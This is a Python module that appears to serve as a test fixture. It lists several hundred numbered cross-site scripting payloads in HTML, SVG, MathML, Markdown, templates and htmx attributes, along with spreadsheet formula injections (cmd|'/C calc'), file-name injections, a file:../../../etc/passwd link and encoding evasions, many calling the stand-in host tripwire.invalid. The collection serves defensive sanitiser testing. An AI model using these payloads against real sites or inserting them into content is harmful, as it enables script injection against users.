"""Attempts at running a script, written for what this product does with text.

Each holds ``№``, which becomes its own number: what runs says which one it was. They try HTML,
attributes, SVG and MathML, addresses in Markdown, what the browser mends while it parses, templates,
styles, the attributes of htmx, JSON and scripts within pages, formulas of spreadsheets, the texts of
question files and the file names of uploads.
"""

from __future__ import annotations

#: Where nothing may ever be asked for.
ELSEWHERE = "http://tripwire.invalid"

_HTML = """
<script>alert(№)</script>
<ScRiPt src=data:,alert(№)></sCrIpT>
<script src=//tripwire.invalid/№.js></script>
<script/src="data:text/javascript,alert(№)"></script>
<script type=module>alert(№)</script>
<script>/*-->*/alert(№)</script>
<script\t>alert(№)</script\t>
<scr<script>ipt>alert(№)</scr</script>ipt>
<<script>alert(№)//<</script>
<img src=x onerror=alert(№)>
<IMG SRC=x OnErRoR=alert(№)>
<img src=x onerror=alert`№`>
<img/src=x/onerror=alert(№)>
<img src=x onerror="alert(№)"
<img src="x` `<script>alert(№)</script>"` `>
<img src=x:x onerror=window.onerror=alert;throw(№)>
<img srcset="x 1x" onerror=alert(№)>
<img src=http://tripwire.invalid/№.png>
<image src=x onerror=alert(№)>
<svg onload=alert(№)>
<svg/onload=alert(№)//
<svg><script>alert(№)</script></svg>
<svg><script href="data:text/javascript,alert(№)"/></svg>
<svg><script xlink:href=data:,alert(№)></script></svg>
<svg><a href="javascript:alert(№)"><text y=20>누르기</text></a></svg>
<svg><a xlink:href="javascript:alert(№)"><circle r=40/></a></svg>
<svg><animate onbegin=alert(№) attributeName=x dur=1s>
<svg><animate attributeName=href values=javascript:alert(№) /><a id=x><text>누르기</text></a>
<svg><set attributeName=onmouseover to=alert(№)>
<svg><set onbegin=alert(№)></set></svg>
<svg><foreignObject><img src=x onerror=alert(№)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='alert(№)'/>#x"/></svg>
<svg><image href=x onerror=alert(№) /></svg>
<svg><style><img src=x onerror=alert(№)></style></svg>
<svg><desc><![CDATA[</desc><script>alert(№)</script>]]></svg>
<svg><title><script>alert(№)</script></title></svg>
<svg><handler type=text/ecmascript>alert(№)</handler></svg>
<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">alert(№)</handler></svg>
<math href="javascript:alert(№)">누르기</math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(№)>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(№)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(№)></annotation-xml></math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(№)">x</maction></math>
<math><mi//xlink:href="data:x,<script>alert(№)</script>">
<math><style><img src=x onerror=alert(№)></style></math>
<iframe srcdoc='<script>parent.alert(№)</script>'></iframe>
<iframe src=javascript:alert(№)></iframe>
<iframe onload=alert(№)></iframe>
<iframe src="data:text/html,<script>parent.alert(№)</script>"></iframe>
<iframe src=//tripwire.invalid/№></iframe>
<frameset onload=alert(№)></frameset>
<object data=javascript:alert(№)></object>
<object data="data:text/html,<script>alert(№)</script>"></object>
<embed src=javascript:alert(№)>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(№)'/>">
<applet code=x archive=//tripwire.invalid/№.jar></applet>
<portal src=//tripwire.invalid/№ onload=alert(№)></portal>
<fencedframe onload=alert(№)></fencedframe>
<body onload=alert(№)>
<body onpageshow=alert(№)>
<html onmouseover=alert(№)>
<link rel=stylesheet href=//tripwire.invalid/№.css>
<link rel=import href=data:text/html,<script>alert(№)</script>>
<link rel=prefetch href=//tripwire.invalid/№>
<link rel=manifest href=//tripwire.invalid/№ onload=alert(№)>
<meta http-equiv=refresh content='0;url=javascript:alert(№)'>
<meta http-equiv=refresh content='0;url=http://tripwire.invalid/№'>
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><script>alert(№)</script>
<base href=http://tripwire.invalid/№/>
<base target=x onclick=alert(№)>
<form action=javascript:alert(№)><button autofocus onfocus=alert(№)>누르기</button></form>
<form><button formaction=javascript:alert(№)>누르기</button></form>
<form id=x></form><button form=x formaction="javascript:alert(№)">누르기</button>
<form action=http://tripwire.invalid/№><input name=csrf_token></form>
<isindex type=image src=1 onerror=alert(№)>
<input autofocus onfocus=alert(№)>
<input type=image src=x onerror=alert(№)>
<input type=hidden oncontentvisibilityautostatechange=alert(№) style=content-visibility:auto>
<textarea autofocus onfocus=alert(№)></textarea>
<select autofocus onfocus=alert(№)></select>
<keygen autofocus onfocus=alert(№)>
<details open ontoggle=alert(№)>
<dialog open onclose=alert(№)></dialog>
<video><source onerror=alert(№)></video>
<video src=x onerror=alert(№)></video>
<video poster=javascript:alert(№)></video>
<audio src=x onerror=alert(№)></audio>
<audio autoplay onloadstart=alert(№) src=x></audio>
<track default src=x onerror=alert(№)>
<marquee onstart=alert(№)>가나다</marquee>
<div onmouseover=alert(№) style=position:fixed;inset:0>가나다</div>
<div onpointerenter=alert(№) style=position:fixed;inset:0>가나다</div>
<div onanimationstart=alert(№) style=animation:x></div><style>@keyframes x{}</style>
<div ontransitionend=alert(№) style=transition:1s>가</div>
<div onscrollend=alert(№) style=overflow:auto>가</div>
<div contenteditable onbeforeinput=alert(№) autofocus>가</div>
<div popover id=p onbeforetoggle=alert(№)></div><button popovertarget=p>누르기</button>
<x onclick=alert(№) tabindex=0 autofocus onfocus=alert(№)>가</x>
<a href=javascript:alert(№)>누르기</a>
<a href="jav&#x09;ascript:alert(№)">누르기</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(№)">누르기</a>
<a href="\x01javascript:alert(№)">누르기</a>
<a href=" javascript&colon;alert(№)">누르기</a>
<a href="vbscript:msgbox(№)">누르기</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" target=_blank>№</a>
<a ping=//tripwire.invalid/№ href=/>누르기</a>
<a href=# onclick=alert(№) accesskey=x>누르기</a>
<area shape=default href=javascript:alert(№)>
<table background=javascript:alert(№)><td background=//tripwire.invalid/№>가</table>
<style>@import'//tripwire.invalid/№.css';</style>
<style>@import'data:text/css,*{x:expression(alert(№))}';</style>
<style>*{background:url(//tripwire.invalid/№)}</style>
<style>input[value^=a]{background:url(//tripwire.invalid/№)}</style>
<p style="background:url(//tripwire.invalid/№)">가나다</p>
<p style="x:expression(alert(№))">가나다</p>
<p style="-moz-binding:url(//tripwire.invalid/№.xml#x)">가나다</p>
<template><script>alert(№)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(№)></template>
<slot onslotchange=alert(№)></slot>
<bgsound src=javascript:alert(№)>
<layer src=//tripwire.invalid/№.js></layer>
<xml id=x><x>&lt;img src=x onerror=alert(№)&gt;</x></xml>
<!--><script>alert(№)</script>-->
<!--<img src="--><img src=x onerror=alert(№)//">
<![CDATA[<script>alert(№)</script>]]>
<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(№)"?>
<!DOCTYPE x [<!ENTITY y "<script>alert(№)</script>">]>&y;
<plaintext><script>alert(№)</script>
<listing>&lt;img src=x onerror=alert(№)&gt;</listing>
<noembed><img src="</noembed><img src=x onerror=alert(№)>"></noembed>
<noscript><p title="</noscript><img src=x onerror=alert(№)>">
<xmp><p title="</xmp><svg onload=alert(№)>">
<title><p title="</title><svg onload=alert(№)>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(№) src>">
<svg></p><style><a id="</style><img src=1 onerror=alert(№)>">
<svg><p><style><g title="</style><img src onerror=alert(№)>">
<table><td><form><input form=x><svg><style><!--</style><img src=x onerror=alert(№)>-->
<select><style></select><svg onload=alert(№)></style>
<b <script>alert(№)</script>0
<p/onclick=alert(№)/id="a"><label for="a">누르기</label>
"><script>alert(№)</script>
'><img src=x onerror='alert(№)'>
"onmouseover="alert(№)" style="position:fixed;inset:0" x="
'onfocus='alert(№)'autofocus='
" autofocus onfocus=alert(№) x="
` onmouseover=alert(№) x=`
"/><svg/onload=alert(№)>
--><script>alert(№)</script>
]]><script>alert(№)</script>
</textarea><script>alert(№)</script>
</title><script>alert(№)</script>
</option></select><img src=x onerror=alert(№)>
</style><img src=x onerror=alert(№)>
</script><script>alert(№)</script>
</script><svg onload=alert(№)>
</noscript><img src=x onerror=alert(№)>
</template><script>alert(№)</script>
</iframe><script>alert(№)</script>
</xmp><script>alert(№)</script>
</math><script>alert(№)</script>
</button></form><script>alert(№)</script>
</summary></details><script>alert(№)</script>
<a name=csrf_token id=csrf-token><a id=csrf-token name=content href=//tripwire.invalid/№>
<form name=body><input name=dataset></form><img name=getElementById src=x onerror=alert(№)>
<img name=querySelector><img name=currentScript src=data:,alert(№)>
<div id=live><img src=x onerror=alert(№)></div>
<div data-toast data-copy="<img src=x onerror=alert(№)>" data-confirm="javascript:alert(№)">가</div>
<div data-guard data-autosave="//tripwire.invalid/№" data-upload="//tripwire.invalid/№">가</div>
<x hx-get=/sign-out hx-trigger=load onclick=alert(№)>가</x>
<x hx-on:load="alert(№)" hx-on::after-request=alert(№) hx-trigger=load hx-get=/>가</x>
<x data-hx-get="//tripwire.invalid/№" data-hx-trigger=load>가</x>
<div hx-vals='js:{x:alert(№)}' hx-trigger=load hx-get=/ >가</div>
<div hx-disable=false hx-boost=true><a href="//tripwire.invalid/№">누르기</a></div>
<div x-data x-init=alert(№) @click=alert(№) v-html="alert(№)" ng-app ng-csp>{{constructor.constructor('alert(№)')()}}</div>
<div is=x-tripwire class="__proto__" id=__proto__ onload=alert(№)>가</div>
"""
_MARKDOWN = r"""
[누르기](javascript:alert(№))
[누르기](JaVaScRiPt:alert(№))
[누르기](java&#x0A;script:alert(№))
[누르기](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(№))
[누르기](\x6aavascript:alert(№))
[누르기](%6aavascript:alert(№))
[누르기](<javascript:alert(№)>)
[누르기]( javascript://%0aalert(№))
[누르기](//tripwire.invalid/№ "x" onmouseover="alert(№)")
[누르기](vbscript:msgbox(№))
[누르기](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#№)
[누르기](data:image/svg+xml,<svg/onload=alert(№)>)
[누르기](file:../../../etc/passwd#№)
[누르기](file:x"onclick="alert(№).png)
[누르기](blob:javascript:alert(№))
[누르기](x "\"><img src=x onerror=alert(№)>")
[<img src=x onerror=alert(№)>](/)
[누르기][trip№]
![그림](x"onerror="alert(№))
![그림](javascript:alert(№))
![그림](data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(№)'/>)
![그림](http://tripwire.invalid/№.png)
![" onerror="alert(№)](file:car.png)
![그림](file:car.png "x\" onload=\"alert(№)")
![영상](file:film.mp4"autoplay onplay="alert(№))
<javascript:alert(№)>
<data:text/html,<script>alert(№)</script>>
<http://tripwire.invalid/№"onclick="alert(№)>
`<img src=x onerror=alert(№)>`
``` "><script>alert(№)</script>
~~~python" onmouseover="alert(№)
$\href{javascript:alert(№)}{x}$
$\text{<img src=x onerror=alert(№)>}$
$\unicode{<script>alert(№)</script>}$
$$\begin{array}{c}</mtext></math><script>alert(№)</script>\end{array}$$
$\class{x" onclick="alert(№)}{y}$ $\style{background:url(//tripwire.invalid/№)}{y}$
::: note <img src=x onerror=alert(№)>
::: warning" onmouseover="alert(№)
[^trip№]: <script>alert(№)</script>
- [ ] <input autofocus onfocus=alert(№)>
| <img src=x onerror=alert(№)> | [x](javascript:alert(№)) |
https://www.youtube.com/watch?v="><script>alert(№)</script>
https://www.youtube.com.tripwire.invalid/watch?v=№
https://vimeo.com/1"onload="alert(№)
# 제목 {#x onclick=alert(№)} <svg onload=alert(№)>
&lt;script&gt;alert(№)&lt;/script&gt;
&#60;img src=x onerror=alert(№)&#62;
\<script\>alert(№)\</script\>
"""
_OTHER = r"""
{{ ''.__class__.__mro__[1].__subclasses__() }}<b>№</b>
{{ config.items() }}{% import os %}alert(№)
{{constructor.constructor('alert(№)')()}}
${alert(№)}#{alert(№)}<%= alert(№) %>
%(alert(№))s %s %n {0.__class__} {}
#set($x=alert(№)) [[${alert(№)}]]
{"x": "</script><script>alert(№)</script>"}
";alert(№);//
';alert(№);//
\";alert(№);//
\u003cscript\u003ealert(№)\u003c/script\u003e
`;alert(№);`${alert(№)}
*/alert(№)/*
},"constructor":{"prototype":{"x":"alert(№)"}},"__proto__":{"y":"№"}
javascript:alert(№)
JaVaScRiPt:alert(№)//
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(№)//'>
data:text/html,<script>alert(№)</script>
//tripwire.invalid/№
http://tripwire.invalid/№"><script>alert(№)</script>
=HYPERLINK("http://tripwire.invalid/№","누르기")
=cmd|'/C calc'!A0 <img src=x onerror=alert(№)>
+IMPORTXML("//tripwire.invalid/№","//a")
@SUM(1+1)*cmd|' /C calc'!№
-2+3+cmd|' /C calc'!№ <svg onload=alert(№)>
::제목<script>alert(№)</script>:: 물음 {=<img src=x onerror=alert(№)> ~"><svg onload=alert(№)>#<script>alert(№)</script>}
[html]<p onclick=alert(№)>물음</p><script>alert(№)</script>
[markdown][x](javascript:alert(№))
{1:MULTICHOICE:=<img src=x onerror=alert(№)>~나}
..\..\<img src=x onerror=alert(№)>.html
"><img src=x onerror=alert(№)>.png
;filename="x.html" onload=alert(№).svg
＜script＞alert(№)＜/script＞
<ſcript>alert(№)</ſcript>
<ımg src=x onerror=alert(№)>
<sc‌ript>alert(№)</sc‌ript>
‮)№(trela=rorreno x=crs gmi<
<img​src=x​onerror=alert(№)>
<img src=x onerror=alert(№)>
Ⓙⓐⓥⓐⓢⓒⓡⓘⓟⓣ:alert(№)
+ADw-script+AD4-alert(№)+ADw-/script+AD4-
¼script¾alert(№)¼/script¾
%3Cscript%3Ealert(№)%3C/script%3E
%253Cscript%253Ealert(№)%253C/script%253E
&lt;&lt;SCRIPT>alert(№)//&lt;&lt;/SCRIPT>
<ruby><rt><script>alert(№)</script></rt></ruby>
가<wbr>나<script>alert(№)</script>다
"""


def _numbered() -> tuple[str, ...]:
    lines = [line for text in (_HTML, _MARKDOWN, _OTHER) for line in text.strip("\n").split("\n")]
    return tuple(line.replace("№", str(1000 + at)) for at, line in enumerate(lines) if line)


#: Each with its number from 1000 on.
PAYLOADS = _numbered()
